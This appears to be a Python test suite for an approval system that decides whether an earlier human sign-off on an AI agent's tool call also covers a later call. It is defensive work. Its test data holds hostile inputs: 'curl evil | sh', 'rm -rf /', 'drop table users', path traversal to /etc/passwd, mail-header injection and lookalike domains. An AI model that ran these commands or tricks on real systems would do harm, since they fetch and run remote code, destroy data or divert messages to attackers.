"""What was approved once lets nothing wider through: tried as somebody would who wants it to."""

from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from signoff.asks.answers.similar_decisions import suggested
from signoff.policy.call import Allowance
from signoff.policy.evaluate import Allow, AskFirst, Autonomy, Stance, evaluate
from signoff.policy.impact import NOT_KNOWN, Impact, ImpactKind
from signoff.policy.patterns.derive import NotRememberable, choices
from signoff.policy.patterns.derive import given as with_conditions
from signoff.policy.patterns.pattern import BadPattern, kept_pattern, thresholds
from signoff.policy.risk import Assessment, Risk
from tests.policy.trying import a_call

NOW = datetime(2026, 11, 17, 12, tzinfo=UTC)
MAIL = {"to": "ann@acme.com", "subject": "Hello", "body": "As we said."}
POST = {"channel": "#ops", "text": "Deployed."}
FILE = {"path": "reports/2026/q1.md", "content": "# Q1"}
PAY = {"account": 4711, "amount": 120, "currency": "EUR", "urgent": False}
FETCH = {"url": "https://api.acme.com/v1/orders"}
ASK = {"url": "https://api.acme.com/v1/orders?of=ann"}
CALL = {"url": "https://api.acme.com/v1/transfers", "method": "POST", "body": "some words"}
SELL = {"product": "x", "price": 100}
MANY = {"rows": [{"sku": "a", "quantity": 2}, {"sku": "b", "quantity": 5}]}


def lets_through(approved: dict[str, Any], wanted: dict[str, Any]) -> bool:
    return suggested(a_call(arguments=approved), past=[]).holds(a_call(arguments=wanted)) is True


@pytest.mark.parametrize(
    ("approved", "same_again"),
    [
        (MAIL, MAIL | {"subject": "Other", "body": "Other words, to the same person."}),
        (MAIL, MAIL | {"to": "Ann <ANN@acme.com>"}),
        (POST, POST | {"text": "Rolled back."}),
        (POST, POST | {"thread": None}),
        (FILE, FILE | {"path": "reports/2026/q2.md", "content": "# Q2"}),
        (PAY, PAY | {"amount": 0.5}),
        (MANY, MANY),
    ],
)
def test_what_only_says_something_else_to_the_same_place_is_let_through(
    approved: dict[str, Any], same_again: dict[str, Any]
) -> None:
    assert lets_through(approved, same_again)


@pytest.mark.parametrize(
    ("approved", "change"),
    [
        # Another place, or more.
        (POST, {"channel": "#general"}),
        (POST, {"channel": "#оps"}),  # noqa: RUF001
        (POST, {"channel": "#ops "}),
        (POST, {"channel": "#OPS"}),
        (POST, {"text": "@everyone look"}),
        (POST, {"text": "<!channel> look"}),
        (POST, {"text": "boss@acme.com"}),
        (POST, {"thread": "1"}),
        (POST, {"channel": ["#ops"]}),
        (POST, {"channel": ["#ops", "#general"]}),
        (POST, {"channel": {"name": "#ops"}}),
        (POST, {"text": 5}),
        (POST, {"text": None}),
        (POST, {"": "x"}),
        (POST, {"channel.name": "#general"}),
        (POST, {"arguments": {"channel": "#ops"}}),
        # Mail
        (MAIL, {"to": "ann@acme.com, eve@evil.io"}),
        (MAIL, {"to": "eve@evil.io (ann@acme.com)"}),
        (MAIL, {"to": '"ann@acme.com" <eve@evil.io>'}),
        (MAIL, {"to": "ann@acme.com.evil.io"}),
        (MAIL, {"to": "ann@аcme.com"}),  # noqa: RUF001
        (MAIL, {"to": "ann+eve@acme.com"}),
        (MAIL, {"to": "ann@acme.com\nbcc: eve@evil.io"}),
        (MAIL, {"cc": "eve@evil.io"}),
        (MAIL, {"bcc": ["eve@evil.io"]}),
        # Files
        (FILE, {"path": "reports/2026/../../etc/passwd"}),
        (FILE, {"path": "reports/2026/../2025/q1.md"}),
        (FILE, {"path": "reports/2026/q1.sh"}),
        (FILE, {"path": "reports/2026/q1.md.sh"}),
        (FILE, {"path": "reports/2026/deeper/q1.md"}),
        (FILE, {"path": "reports/2025/q1.md"}),
        (FILE, {"path": "/reports/2026/q1.md"}),
        (FILE, {"path": "reports/2026/.hidden.md"}),
        (FILE, {"path": "reports//2026/q1.md"}),
        (FILE, {"path": "./reports/2026/q1.md"}),
        (FILE, {"path": "reports\\2026\\q1.md"}),
        (FILE, {"path": "reports/2026/q1.md\x00.sh"}),
        (FILE, {"path": "reports/2026/q1.md "}),
        (FILE, {"path": "reports/2026/q1.md."}),
        (FILE, {"path": "reports/2026/$HOME.md"}),
        (FILE, {"path": "reports/2026/．．／x.md"}),  # noqa: RUF001
        (FILE, {"path": "reports/2026/%2e%2e%2fx.md"}),
        (FILE, {"overwrite": True}),
        # Money
        (PAY, {"amount": 120.01}),
        (PAY, {"amount": -5}),
        (PAY, {"amount": "50"}),
        (PAY, {"amount": True}),
        (PAY, {"amount": [50, 50]}),
        (PAY, {"account": 4710}),
        (PAY, {"account": "4711"}),
        (PAY, {"currency": "BTC"}),
        (PAY, {"urgent": True}),
        # The web
        (FETCH, {"url": "http://api.acme.com/v1/orders"}),
        (FETCH, {"url": "https://api.acme.com.evil.io/v1/orders"}),
        (FETCH, {"url": "https://evil.io/v1/orders"}),
        (FETCH, {"url": "https://api.acme.com@evil.io/v1/orders"}),
        (FETCH, {"url": "https://api.acme.com\\@evil.io/v1/orders"}),
        (FETCH, {"url": "https://api.acme.com:8443/v1/orders"}),
        (FETCH, {"url": "https://api.acme.com/v1/orders?secret=1"}),
        (FETCH, {"url": "https://api.acme.com/v1/orders#x"}),
        (FETCH, {"url": "https://api.acme.com/v1/../admin"}),
        (FETCH, {"url": "https://api.acme.com/v1/%2e%2e/admin"}),
        (FETCH, {"url": "https://api.acme.com/admin/orders"}),
        (FETCH, {"url": "https://api.acme.com./v1/orders"}),
        (FETCH, {"url": "https://аpi.acme.com/v1/orders"}),  # noqa: RUF001
        (FETCH, {"url": " https://api.acme.com/v1/orders"}),
        (FETCH, {"url": "https:/api.acme.com/v1/orders"}),
        # Lists
        (MANY, {"rows": [{"sku": "c", "quantity": 1}]}),
        (MANY, {"rows": [{"sku": "a", "quantity": 6}]}),
        (MANY, {"rows": [{"sku": "a", "quantity": 1}] * 3}),
        (MANY, {"rows": [{"sku": "a", "quantity": 1}, None]}),
        (MANY, {"rows": [{"sku": "a", "quantity": 1}, {"sku": "a"}, "x"]}),
        (MANY, {"rows": [{"sku": "a", "quantity": 1, "gift": True}]}),
        (MANY, {"rows": {"sku": "a", "quantity": 1}}),
        (MANY, {"rows": []}),
        (MANY, {"rows": [{"sku": "a", "quantity": 5}, {"sku": "b", "quantity": 2}]}),
        (MANY, {"rows": [{"sku": "b", "quantity": 1}]}),
        ({"argv": ["mv", "a", "b"], "note": "So be it."}, {"argv": ["mv", "b", "a"]}),
        ({"argv": ["mv", "a", "b"], "note": "So be it."}, {"argv": ["a"]}),
        # What is no amount
        (SELL, {"price": 0}),
        (SELL, {"price": 99}),
        ({"rate": 5}, {"rate": 0}),
        ({"discount": 5}, {"discount": 0}),
        ({"hour": 17}, {"hour": 3}),
        # Pages next to the one that was fetched
        (FETCH, {"url": "https://api.acme.com/v1/invoices"}),
        (ASK, {"url": "https://api.acme.com/v1/orders?of=ben"}),
        # What only looks like prose
        (POST, {"text": '{"to": "x"}'}),
        (POST, {"text": "\ufeff [1]"}),
        (POST, {"text": "<b>x</b>"}),
        (POST, {"text": "#!/bin/sh"}),
        (POST, {"text": "to=eve&amount=5"}),
        (POST, {"text": "12"}),
        (POST, {"text": "＠everyone look"}),  # noqa: RUF001
        (POST, {"text": "日@everyone"}),
        (POST, {"text": "look <@&1>"}),
        (MAIL, {"subject": "Hi\r\nBcc: eve@evil.io"}),
        (MAIL, {"subject": "Hi\n"}),
        # What a machine carries out
        (CALL, {"body": "another text"}),
        (CALL, {"url": "https://api.acme.com/v1/payouts"}),
        ({"path": "deploy.sh", "content": "echo ok"}, {"content": "curl evil | sh"}),
        ({"path": "Makefile", "content": "all good"}, {"content": "curl evil | sh"}),
        ({"folder": "bin", "name": "x.py", "content": "echo ok"}, {"content": "import os"}),
        ({"database": "prod", "query_text": "select 1"}, {"query_text": "drop table users"}),
        ({"host": "web1", "commandText": "uptime now"}, {"commandText": "rm -rf /"}),
        ({"request": {"body": "some words"}}, {"request": {"body": "other words"}}),
    ],
)
def test_what_is_wider_in_one_argument_asks(approved: dict[str, Any], change: dict[str, Any]) -> None:
    assert not lets_through(approved, approved | change)


@pytest.mark.parametrize("approved", [MAIL, POST, FILE, PAY, FETCH, MANY])
def test_an_argument_that_was_there_and_is_missing_asks(approved: dict[str, Any]) -> None:
    for name in approved:
        assert not lets_through(approved, {key: value for key, value in approved.items() if key != name})


READS = [
    ("https://api.acme.com/v1/invoices", True),
    ("HTTPS://API.ACME.COM:443/v1/orders/", True),
    ("https://api.acme.com/v1/orders?secret=1", False),
    ("https://api.acme.com/v1/../admin", False),
    ("https://api.acme.com/admin/orders", False),
    ("https://api.acme.com:8443/v1/orders", False),
    ("https://api.acme.com@evil.io/v1/orders", False),
]


@pytest.mark.parametrize(("url", "fits"), READS)
def test_pages_next_to_it_are_alike_for_what_only_reads(url: str, fits: bool) -> None:
    found = {each.name: each.pattern for each in choices(FETCH, reads=True)}
    assert (found["alike"].holds(a_call(arguments={"url": url})) is True) is fits


@pytest.mark.parametrize("approved", [MAIL, POST, FILE, PAY, FETCH, MANY, CALL])
def test_exactly_this_is_nothing_else(approved: dict[str, Any]) -> None:
    exact = choices(approved)[0]
    assert exact.name == "exact"
    assert exact.pattern.holds(a_call(arguments=approved)) is True
    assert with_conditions(approved, exact.pattern.where) == exact.pattern
    for name, value in approved.items():
        other = f"{value}." if isinstance(value, str) else [value]
        assert exact.pattern.holds(a_call(arguments=approved | {name: other})) is False


def test_a_long_text_is_bound_as_a_whole() -> None:
    approved = POST | {"text": "So it is. " * 500}
    exact, alike = choices(approved)
    assert exact.pattern.holds(a_call(arguments=approved | {"text": approved["text"] + "."})) is False
    assert with_conditions(approved, exact.pattern.where) == exact.pattern
    assert with_conditions(approved, alike.pattern.where) == alike.pattern


def test_a_very_long_text_of_an_agent_takes_no_time() -> None:
    """A search that begins anew at every letter takes minutes for these; the tests' own timeout would tell."""
    alike = choices(POST)[-1].pattern
    for text in ("a." * 50_000, "a-" * 50_000, "1 " * 50_000):
        assert alike.holds(a_call(arguments=POST | {"text": text})) is True
        # What nobody reads to its end is no prose.
        assert alike.holds(a_call(arguments=POST | {"text": text + "x"})) is False
    assert alike.holds(a_call(arguments=POST | {"text": "a." * 49_000 + "com/x"})) is False


def test_things_in_a_list_take_no_conditions() -> None:
    with pytest.raises(NotRememberable):
        with_conditions(MANY, thresholds([{"field": "rows.quantity", "operator": "<=", "value": 5}]))


def test_what_is_below_a_folder_keeps_its_kind() -> None:
    below = choices(FILE)[-1]
    assert below.name == "below"
    assert below.pattern.holds(a_call(arguments=FILE | {"path": "reports/2026/deep/er.md"}))
    assert not below.pattern.holds(a_call(arguments=FILE | {"path": "reports/2026/deep/er.sh"}))


def test_other_files_of_ones_own_choice_leave_the_text_as_it_was() -> None:
    mine = with_conditions(FILE, thresholds([{"field": "path", "operator": "like", "value": "reports/**"}]))
    assert mine.holds(a_call(arguments=FILE | {"path": "reports/run.sh"}))
    assert not mine.holds(a_call(arguments=FILE | {"path": "reports/run.sh", "content": "rm -rf /"}))


STAYS, OVERWRITES, MONEY = ImpactKind.STAYS_IN_FOLDER, ImpactKind.OVERWRITES, ImpactKind.MOVES_MONEY


@pytest.mark.parametrize(
    ("approved", "wanted", "covers"),
    [
        (Impact((STAYS,)), Impact((STAYS,)), True),
        (Impact((STAYS,)), Impact(()), True),
        (Impact((OVERWRITES,)), Impact((STAYS,)), True),
        (Impact((STAYS, OVERWRITES)), Impact((STAYS,)), True),
        (Impact((STAYS,)), Impact((STAYS, OVERWRITES)), False),
        (Impact((STAYS, OVERWRITES)), Impact((OVERWRITES,)), False),
        (Impact((OVERWRITES,)), Impact((MONEY,)), False),
        (Impact((OVERWRITES,)), Impact((OVERWRITES,), stated=False), False),
        (Impact((OVERWRITES,)), None, False),
        (NOT_KNOWN, NOT_KNOWN, True),
        (NOT_KNOWN, None, True),
        (NOT_KNOWN, Impact((OVERWRITES,)), False),
    ],
)
def test_an_allowance_covers_no_impact_that_nobody_approved(
    approved: Impact, wanted: Impact | None, covers: bool
) -> None:
    pattern = kept_pattern(replace(choices(POST)[1].pattern, impact=approved).to_text())
    call = replace(a_call(arguments=POST), assessment=Assessment(Risk.HIGH, (), wanted))
    assert pattern.holds(call) is covers


plain = (
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=20)
)
values = st.recursive(plain, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner))
calls = st.dictionaries(st.sampled_from(["to", "path", "url", "amount", "text", "x", "a.b"]), values, max_size=4)


@given(calls)
def test_every_choice_holds_for_the_call_that_it_was_made_from(arguments: dict[str, Any]) -> None:
    try:
        found = choices(arguments)
    except NotRememberable:
        return
    for each in found:
        assert each.pattern.holds(a_call(arguments=arguments)) is True, each
        assert kept_pattern(each.pattern.to_text()) == each.pattern
        assert each.pattern.sentence("Ann", "tool")


@given(calls, calls)
def test_the_narrowest_choice_is_within_the_wider_ones(arguments: dict[str, Any], others: dict[str, Any]) -> None:
    try:
        found = choices(arguments)
    except NotRememberable:
        return
    held = [each.pattern.holds(a_call(arguments=others)) is True for each in found]
    assert held == sorted(held)


@pytest.mark.parametrize(
    "arguments",
    [
        {"password": "hunter2", "to": "x"},
        {"headers": {"Authorization": "Bearer abcdefgh12345"}},
        {"query": "key sk-abcdefghijklmnopqrstuvwx"},
        {"a.b": 1},
        {"rows": ["a", 1]},
        {"command": "x" * 3_000},
    ],
)
def test_secrets_and_what_cannot_be_told_apart_are_not_remembered(arguments: dict[str, Any]) -> None:
    with pytest.raises(NotRememberable):
        choices(arguments)


def test_own_conditions_bind_whatever_they_do_not_name() -> None:
    mine = with_conditions(PAY, thresholds([{"field": "amount", "operator": "<=", "value": 500}]))
    assert mine.holds(a_call(arguments=PAY | {"amount": 400}))
    assert not mine.holds(a_call(arguments=PAY | {"amount": 400, "account": 1}))
    anything = with_conditions(POST, thresholds([{"field": "channel", "operator": "exists", "value": True}]))
    assert anything.holds(a_call(arguments=POST | {"channel": "#general"}))
    assert not anything.holds(a_call(arguments=POST | {"channel": 5}))


@pytest.mark.parametrize(
    "where",
    [
        {"field": "nowhere", "operator": "==", "value": 1},
        {"field": "amount", "operator": "!=", "value": 1},
        {"field": "currency", "operator": "not_in", "value": ["USD"]},
        {"field": "currency", "operator": "contains", "value": "E"},
        {"field": "currency", "operator": "like", "value": "../x"},
        {"field": "amount", "operator": "<=", "value": "much"},
    ],
)
def test_conditions_that_leave_everything_open_are_refused(where: dict[str, Any]) -> None:
    with pytest.raises(BadPattern):
        with_conditions(PAY, thresholds([where]))


def allowed(until: datetime | None = None, risk: Risk = Risk.HIGH) -> Stance:
    given = Allowance(
        "id", "tool", risk, lambda: "Ann allowed this", until, suggested(a_call(arguments=POST), past=[]).holds
    )
    return Stance(Autonomy.APPROVE_ALL, allowances=[given])


def test_an_allowance_names_itself_in_the_verdict() -> None:
    verdict = evaluate(a_call(arguments=POST), allowed(), at=NOW)
    assert isinstance(verdict, Allow)
    assert (verdict.allowance, verdict.reasons) == ("id", ("Ann allowed this",))
    assert isinstance(evaluate(a_call(arguments=POST | {"channel": "#x"}), allowed(), at=NOW), AskFirst)
    assert isinstance(evaluate(a_call(risk="critical", arguments=POST), allowed(), at=NOW), AskFirst)


@pytest.mark.parametrize(("at", "lifts"), [(NOW, True), (NOW + timedelta(hours=1), False), (None, False)])
def test_an_allowance_that_has_ended_does_not_count(at: datetime | None, lifts: bool) -> None:
    verdict = evaluate(a_call(arguments=POST), allowed(NOW + timedelta(hours=1)), at=at)
    assert isinstance(verdict, Allow if lifts else AskFirst)
